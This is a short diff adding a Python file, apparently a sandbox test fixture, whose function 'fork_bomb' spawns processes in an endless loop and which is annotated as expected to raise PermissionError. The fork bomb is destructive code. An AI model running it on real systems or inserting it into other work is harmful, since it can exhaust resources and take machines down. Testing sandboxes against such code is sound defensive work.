@@ -1,0 +1,7 @@
+# raises: PermissionError
+import os
+
+
+def fork_bomb() -> None:
+    while True:
+        os.fork()
